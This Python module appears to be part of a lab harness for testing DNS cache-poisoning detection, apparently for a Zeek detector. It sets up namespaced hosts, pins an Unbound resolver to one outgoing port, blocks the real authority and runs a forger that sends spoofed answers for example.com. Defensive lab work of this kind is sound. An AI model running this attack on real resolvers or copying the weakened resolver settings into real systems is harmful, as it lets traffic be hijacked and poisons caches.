"""A cache-poisoning attack by guessing, in the manner of Kaminsky, on a resolver that asks from one fixed port.

One network: an attacker, a resolver (Unbound), and the authoritative server (NSD) of ``example.com``, whose answers
do not get through while the attack lasts, so that there is time to guess. The attacker makes the resolver ask for a
name that does not exist, and answers in the server's name with one id after another. At most MAX_FORGED packets.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

from .capture import Capture
from .namespaces import Namespaces
from .openresolver import program, start_nsd, wait_for_answer

TOOLS = ("ip", "nsd", "unbound", "dig", "dnsperf", "tcpdump", "zeek")
RESOLVER = "203.0.113.10"
AUTHORITY = "203.0.113.53"
ATTACKER = "203.0.113.66"
PORT = 4053
ZONE = "example.com"
MAX_FORGED = 20_000
OPTIONS = {"DNSVigilPoisoning::resolvers": f"{{{RESOLVER}/32}}"}


@dataclass(frozen=True)
class Attack:
    """What was done: the capture, and when (seconds since the epoch) the first and the 200th forged packet left."""

    pcap: Path
    sent: int
    first: float
    two_hundredth: float


def make(folder: Path, *, forged: int = MAX_FORGED, quiet: int = 400) -> Attack:
    """Attack, after so many ordinary questions. Raises LabError where something does not work."""
    with Namespaces() as net:
        net.bridge("upstream")
        for host, address in {"resolver": RESOLVER, "authority": AUTHORITY, "attacker": ATTACKER}.items():
            net.host(host, {"upstream": [f"{address}/24"]})
        start_nsd(net, "authority", folder, [AUTHORITY], ZONE)
        wait_for_answer(net, "authority", AUTHORITY, ZONE)
        _start_unbound(net, folder)
        wait_for_answer(net, "resolver", RESOLVER, ZONE)
        capture = Capture(net, "upstream", folder)
        questions = folder / "questions"
        questions.write_text("".join(f"h{index}.{ZONE} A\n" for index in range(quiet)))
        net.call("attacker", ["dnsperf", "-s", RESOLVER, "-d", str(questions), "-c", "1", "-q", "1"])
        net.route("authority", "blackhole", f"{RESOLVER}/32")
        words = [RESOLVER, str(PORT), AUTHORITY, ZONE, ATTACKER, str(min(forged, MAX_FORGED))]
        told = json.loads(net.call("attacker", program("forger", *words)))
        capture.stop()
        return Attack(capture.file, told["sent"], told["first"], told["two_hundredth"])


def _start_unbound(net: Namespaces, folder: Path) -> None:
    own = folder / "unbound"
    own.mkdir()
    lines = ["server:", f"  interface: {RESOLVER}", "  access-control: 0.0.0.0/0 allow", "  num-threads: 1"]
    lines += ["  outgoing-port-avoid: 0-65535", f"  outgoing-port-permit: {PORT}", f'  directory: "{own}"']
    lines += ['  username: ""', '  chroot: ""', '  pidfile: ""', "  use-syslog: no", "  do-ip6: no"]
    lines += ['  module-config: "iterator"', "remote-control:", "  control-enable: no"]
    lines += ["stub-zone:", f'  name: "{ZONE}"', f"  stub-addr: {AUTHORITY}"]
    (own / "unbound.conf").write_text("\n".join(lines) + "\n")
    net.start("resolver", ["unbound", "-d", "-c", str(own / "unbound.conf")], own / "unbound.log")
